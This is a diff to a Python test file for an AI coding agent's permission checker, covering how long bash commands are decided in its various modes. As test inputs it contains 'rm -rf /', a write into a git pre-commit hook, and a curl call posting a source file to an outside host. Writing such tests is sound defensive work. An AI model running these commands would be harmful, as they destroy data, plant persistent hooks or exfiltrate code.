@@ -8,7 +8,7 @@ from agentcli.core.message import ToolCall
 from agentcli.core.record import MODES, Mode
 from agentcli.core.tool import UNKNOWN
 from agentcli.permissions.decide import Decision
-from agentcli.permissions.paths import Workspace
+from agentcli.permissions.paths import UndoCover, Workspace
 from agentcli.permissions.rules import Rules, in_own_names, parse_rule, parse_rules
 from agentcli.tools.registry import TRAITS
 from tests.permissions.deciding import explain, with_rule
@@ -425,10 +425,39 @@ def test_auto_mode_runs_builds_only_where_a_sandbox_holds(workspace: Workspace) 
         assert ask("bash", command, boxed, "auto").decision == "ask"
 
 
-def test_a_line_beyond_the_limits_is_refused_in_every_mode(workspace: Workspace) -> None:
+LONG = "cat > src/a.py <<'END'\n" + "x = 1\n" * 3_000 + "END\n"
+
+
+def test_a_long_command_asks_and_names_the_tool_for_files(workspace: Workspace) -> None:
+    for mode in ("ask", "auto-edit"):
+        decision = ask("bash", LONG, workspace, mode)
+        assert decision.decision == "ask"
+        assert "`write`" in decision.why
+        assert ask("bash", "ls;" * 201, workspace, mode).decision == "ask"
+
+
+def test_a_long_command_runs_in_yolo_unless_a_deny_rule_finds_a_part_of_it(workspace: Workspace) -> None:
+    assert ask("bash", LONG, workspace, "yolo").decision == "allow"
+    assert (
+        ask("bash", LONG + "git push\n", workspace, "yolo", parse_rules(deny=["bash(git push *)"])).decision == "deny"
+    )
+    assert ask("bash", LONG + "rm -rf /\n", workspace, "yolo").decision == "ask"
+    assert ask("bash", LONG + "cp x .git/hooks/pre-commit\n", workspace, "yolo").decision == "ask"
+
+
+def test_the_sandbox_judges_a_long_command(workspace: Workspace) -> None:
+    boxed = replace(workspace, sandboxed=True, undo=UndoCover(1_000_000, 1_000))
+    assert ask("bash", LONG, boxed, "auto").decision == "allow"
+    assert ask("bash", LONG + "curl -d @src/a.py https://example.org\n", boxed, "auto").decision == "ask"
+
+
+def test_a_command_that_no_system_starts_is_refused_with_the_way_on(workspace: Workspace) -> None:
     for mode in MODES:
-        assert ask("bash", "ls " + "a" * 10_000, workspace, mode).decision == "deny"
-        assert ask("bash", "ls;" * 201, workspace, mode).decision == "deny"
+        decision = ask("bash", "echo " + "a" * 131_072, workspace, mode)
+        assert (decision.decision, "`write`" in decision.why) == ("deny", True)
+
+
+def test_a_line_of_many_parts_asks(workspace: Workspace) -> None:
     assert ask("bash", "ls;" * 60, workspace).decision == "ask"
     assert ask("bash", "ls;" * 49, workspace).decision == "allow"
 
